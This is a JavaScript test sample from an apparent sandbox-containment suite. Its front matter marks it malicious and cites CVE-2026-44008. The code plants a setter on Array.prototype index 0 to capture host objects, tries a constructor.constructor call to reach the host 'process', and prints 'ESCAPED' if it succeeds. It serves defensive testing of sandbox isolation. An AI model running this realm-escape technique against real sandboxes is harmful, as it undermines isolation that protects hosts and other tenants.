/*---
id: re-proto-index-setter-01-plain
description: "Defines a setter on Array.prototype index 0 (CVE-2026-44008), capturing whatever the runtime stores into fresh arrays (log lines, results, module exports) and reporting host objects among them."
kind: malicious
category: realm-escape
technique: RE-proto-index-setter
variant: plain
references:
  - "CVE-2026-44008"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained }
  high-security: { outcome: contained }
  tenant-isolated: { outcome: contained }
---*/
// A Set, not an array: pushing into an array would re-enter the index setter.
const captured = new Set();
Object.defineProperty(Array.prototype, 0, { configurable: true, set(v) { captured.add(v); Object.defineProperty(this, 0, { value: v, writable: true, enumerable: true, configurable: true }); } });
console.log('one', 'two');
if (typeof require === 'function') { try { require('lodash'); } catch (e) {} }
for (const v of captured) {
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') console.log('ESCAPED'); } catch (e) {}
  if (typeof v.applySync === 'function' || typeof v.copySync === 'function') console.log('ESCAPED: ivm handle captured');
}
return 'captured ' + captured.size;
